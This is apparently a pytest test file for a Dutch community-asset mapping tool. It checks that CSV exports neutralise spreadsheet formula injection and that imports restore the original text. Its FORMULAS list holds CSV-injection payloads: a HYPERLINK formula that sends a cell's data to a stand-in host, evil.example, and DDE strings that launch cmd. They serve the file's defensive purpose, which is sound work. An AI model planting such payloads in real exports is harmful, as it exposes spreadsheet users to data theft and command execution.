"""CSV injection ("Trust, second round", item 3): every CSV file abcd writes opens as text, and imports back exactly.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-``, ``@``,
tab or carriage return. Each CSV writer (asset export and its *CSV (Excel)*
download, ``--include-personal``, the investment summary, the gap map) puts a
quote before such text; each CSV reader takes it off again. GeoJSON and
GeoPackage keep the text as it is.
"""

from __future__ import annotations

import csv
import io as _io
import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from shapely.geometry import LineString, Point

from abcd import exchange, io
from abcd._formulas import _NUMBER, FORMULA_STARTS, neutralise_formula, restore_formula
from abcd.gaps import street_coverage
from abcd.gaps.files import GapRun, gaps_bytes, read_street_csv, write_gaps
from abcd.investments.exchange import (
    SUMMARY_CSV_COLUMNS,
    read_investment_rows,
    read_summary_csv,
    summary_csv_bytes,
    write_summary_csv,
)
from abcd.model import Asset
from abcd.store import Store
from abcd.wijken import Wijk
from tests.helpers import BOTU, WIJKEN_DIR, make_draft

# As the security review sent them, and their relatives.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Klik voor de subsidie")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "'=al een quote",  # typed with a quote: still the same text after a round trip
    "''+twee quotes",
    "-",
    "- opsommingsteken",
    "+31 10 123 4567",  # a phone number: a formula too (the spaces are Excel's intersection operator)
]
HARMLESS = ["'t Hoekje", "'s-Gravendijkwal", "Buurthuis = ontmoeten", "-12"]


def spreadsheet_cells(data: bytes) -> list[dict[str, str]]:
    """The cells as a spreadsheet gets them from the CSV text (quotes of the CSV format removed)."""
    return list(csv.DictReader(_io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_opens_as_text(cell: str, text: str) -> None:
    assert cell == "'" + text, (cell, text)
    assert not cell.startswith(FORMULA_STARTS)


# ------------------------------------------------------------- the functions
@given(st.text())
def test_restore_undoes_neutralise_for_every_text(text: str) -> None:
    assert restore_formula(neutralise_formula(text)) == text


@given(st.text())
def test_a_neutralised_cell_starts_like_a_formula_only_when_it_is_a_plain_number(text: str) -> None:
    cell = neutralise_formula(text)
    assert not cell.startswith(FORMULA_STARTS) or (cell == text and _NUMBER.fullmatch(cell))


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00")), min_size=1))
def test_a_csv_file_written_then_read_gives_back_every_text(tmp_path: Path, texts: list[str]) -> None:
    path = tmp_path / "heen-en-terug.csv"
    io.write_csv(pd.DataFrame({"tekst": texts, "getal": range(len(texts))}), path)
    with io.open_csv(path, delimiter=lambda _sample: ",") as records:
        assert [record["tekst"] for _, record in records] == texts


@given(st.integers() | st.floats(allow_nan=False) | st.decimals(allow_nan=False) | st.none() | st.booleans())
def test_numbers_stay_numbers(value: Any) -> None:
    assert neutralise_formula(value) is value
    assert restore_formula(value) is value


@pytest.mark.parametrize("text", ["-12", "-12.50", "+3", "-0,5", "-1e5", ".5"])
def test_text_that_is_only_a_number_stays_as_it_is(text: str) -> None:
    assert neutralise_formula(text) == text == restore_formula(text)


@pytest.mark.parametrize("text", [*FORMULAS, "\tgetabd", "\rterug"])
def test_every_formula_start_is_neutralised(text: str) -> None:
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS[:3])
def test_dutch_names_with_an_apostrophe_are_left_alone(text: str) -> None:
    assert neutralise_formula(text) == text == restore_formula(text)


# ------------------------------------------------------------ asset exports
@pytest.fixture
def hostile(botu_store: Store) -> list[Asset]:
    drafts = [make_draft(name=f, description=f) for f in FORMULAS + HARMLESS]
    drafts.append(make_draft(category="person", name="=Bewoner()", description="@bewoner", contact="=HYPERLINK(1)"))
    return botu_store.add_many(drafts, by="review")


def test_the_csv_download_opens_every_formula_as_text(botu_store: Store, hostile: list[Asset]) -> None:
    rows = {r["id"]: r for r in spreadsheet_cells(exchange.export_bytes(botu_store, ".csv", wijk=BOTU))}
    checked = 0
    for asset in hostile:
        if asset.is_person:
            assert asset.id not in rows
            continue
        if asset.name in FORMULAS:
            assert_opens_as_text(rows[asset.id]["name"], asset.name)
            assert_opens_as_text(rows[asset.id]["description"], asset.description)
            checked += 1
        else:
            assert (rows[asset.id]["name"], rows[asset.id]["description"]) == (asset.name, asset.description)
    assert checked == len(FORMULAS)
    assert {r["lat"][:5] for r in rows.values()} == {"51.91"}  # numbers stay numbers


def test_the_personal_export_neutralises_contacts_too(botu_store: Store, hostile: list[Asset], tmp_path: Path) -> None:
    path = tmp_path / "met-personen.csv"
    exchange.export_assets(botu_store, path, wijk=BOTU, include_personal=True)
    (person,) = [r for r in spreadsheet_cells(path.read_bytes()) if r["category"] == "person"]
    for column, text in (("name", "=Bewoner()"), ("description", "@bewoner"), ("contact", "=HYPERLINK(1)")):
        assert_opens_as_text(person[column], text)


@pytest.mark.parametrize("suffix", [".csv", ".geojson", ".gpkg"])
@pytest.mark.parametrize("include_personal", [False, True], ids=["public", "personal"])
def test_every_export_imports_back_to_exactly_the_same_text(
    botu_store: Store,
    hostile: list[Asset],
    tmp_path: Path,
    catalogue: dict[str, Wijk],
    suffix: str,
    include_personal: bool,
) -> None:
    path = tmp_path / f"export{suffix}"
    exchange.export_assets(botu_store, path, wijk=BOTU, include_personal=include_personal)
    other = Store.open(f"sqlite:///{tmp_path}/other.db")
    try:
        exchange.import_assets(other, path, catalogue=catalogue, wijken_dir=WIJKEN_DIR, default_wijk=BOTU, by="t")
        for asset in hostile:
            if asset.is_person and not include_personal:
                continue
            back = other.get(asset.id)
            assert (back.name, back.description) == (asset.name, asset.description)
            if include_personal:
                assert back.contact == asset.contact
    finally:
        other.close()


def test_geojson_and_geopackage_keep_the_text_unchanged(
    botu_store: Store, hostile: list[Asset], tmp_path: Path
) -> None:
    geojson, gpkg = tmp_path / "a.geojson", tmp_path / "a.gpkg"
    exchange.export_assets(botu_store, geojson, wijk=BOTU)
    exchange.export_assets(botu_store, gpkg, wijk=BOTU)
    in_geojson = {f["properties"]["id"]: f["properties"]["name"] for f in json.loads(geojson.read_text())["features"]}
    in_gpkg = dict(zip(*pyogrio.read_dataframe(gpkg)[["id", "name"]].to_dict("list").values(), strict=True))
    for asset in hostile:
        if not asset.is_person:
            assert in_geojson[asset.id] == in_gpkg[asset.id] == asset.name


# -------------------------------------------------- investments and gaps
def summary(index: str) -> pd.DataFrame:
    figures = {
        "inwoners": 100,
        "standard_places": 1,
        "resident_places": 0,
        "eur_total": Decimal("-12.50"),
        "eur_standard": Decimal("0"),
        "eur_resident": Decimal("-12.50"),
        "eur_per_1000": Decimal("-125.00"),
        "space_m2": -3.5,
        "initiatives_per_1000": 10.0,
    }
    assert set(figures) == set(SUMMARY_CSV_COLUMNS[1:])
    return pd.DataFrame([figures], index=pd.Index([index], name="wijk"))


def test_the_investment_summary_csv_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    evil = FORMULAS[0]
    (row,) = spreadsheet_cells(summary_csv_bytes(summary(evil)))
    assert_opens_as_text(row["wijk"], evil)
    assert (row["eur_total"], row["space_m2"]) == ("-12.50", "-3.5")  # negative numbers stay numbers
    path = tmp_path / "investeringen.csv"
    write_summary_csv(summary(evil), path)
    back = read_summary_csv(path)
    assert list(back.index) == [evil]
    assert back.loc[evil, "eur_total"] == Decimal("-12.50")


def test_an_investment_ledger_takes_the_quote_off_again(tmp_path: Path) -> None:
    path = tmp_path / "grootboek.csv"
    path.write_text(
        "meeting_place,date,amount_eur,funder,note\n"
        "Wijkcentrum,2024-01-15,100,gemeente,'=HYPERLINK(1)\n"
        "Wijkcentrum,2024-01-16,100,gemeente,'t Hoekje\n",
        encoding="utf-8",
    )
    assert [row.values["note"] for row in read_investment_rows(path)] == ["=HYPERLINK(1)", "'t Hoekje"]


def test_the_gap_map_csv_opens_street_names_as_text(tmp_path: Path) -> None:
    evil = FORMULAS[1]
    streets = gpd.GeoDataFrame(
        {"name": [evil, "Schiedamseweg"]},
        geometry=[LineString([(0, 0), (100, 0)]), LineString([(0, 500), (100, 500)])],
        crs=28992,
    )
    assets = gpd.GeoDataFrame({"category": ["initiative"], "resident_led": [True]}, geometry=[Point(50, 10)], crs=28992)
    coverage = street_coverage(streets, assets, distance_m=100)
    run = GapRun.of(coverage)
    rows = {r["street"].lstrip("'"): r for r in spreadsheet_cells(gaps_bytes(coverage, ".csv", run=run, lang="en"))}
    assert_opens_as_text(next(r["street"] for r in rows.values() if evil in r["street"]), evil)
    assert rows["Schiedamseweg"]["street"] == "Schiedamseweg"
    assert float(rows[evil]["length_m"]) == pytest.approx(100.0)
    table = tmp_path / "gaten.csv"
    write_gaps(coverage, table, run=run)  # read back, the name is what it was
    assert set(read_street_csv(table)[0]["street"]) == {evil, "Schiedamseweg"}
    out = tmp_path / "gaten.geojson"
    write_gaps(coverage, out, run=run)  # GeoJSON is not a spreadsheet: the name as it is
    assert {f["properties"]["name"] for f in json.loads(out.read_text())["features"]} == {evil, "Schiedamseweg"}


def test_io_write_csv_is_the_one_csv_writer_of_tables(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    io.write_csv(pd.DataFrame({"tekst": ["=1+1", "\tx", "gewoon"], "getal": [-1.5, 2.0, -3.0]}), path)
    assert path.read_text(encoding="utf-8").splitlines() == ["tekst,getal", "'=1+1,-1.5", "'\tx,2.0", "gewoon,-3.0"]
